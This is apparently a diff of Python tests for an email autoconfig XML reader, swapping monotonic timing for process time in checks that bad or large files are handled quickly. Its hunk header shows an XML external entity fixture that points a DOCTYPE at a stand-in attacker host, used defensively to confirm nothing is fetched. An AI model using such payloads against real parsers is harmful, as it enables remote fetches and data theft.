@@ -151,18 +151,18 @@ REMOTE = '<!DOCTYPE c SYSTEM "http://attacker.example/x.dtd"><clientConfig><emai
 )  # fmt: skip
 def test_a_file_that_cannot_be_used_is_refused_soon(data):
     """Nothing is expanded, nothing is fetched."""
-    begun = time.monotonic()
+    begun = time.process_time()
     with pytest.raises(AutoconfigError):
         read(data, EMAIL)
-    assert time.monotonic() - begun < 1
+    assert time.process_time() - begun < 1
 
 
 def test_the_largest_file_is_read_soon():
     data = xml(*[TLS] * 500)
     assert len(data) < 65_536
-    begun = time.monotonic()
+    begun = time.process_time()
     assert len(read(data, EMAIL).servers) == 500
-    assert time.monotonic() - begun < 1
+    assert time.process_time() - begun < 1
 
 
 @given(st.binary(max_size=300))
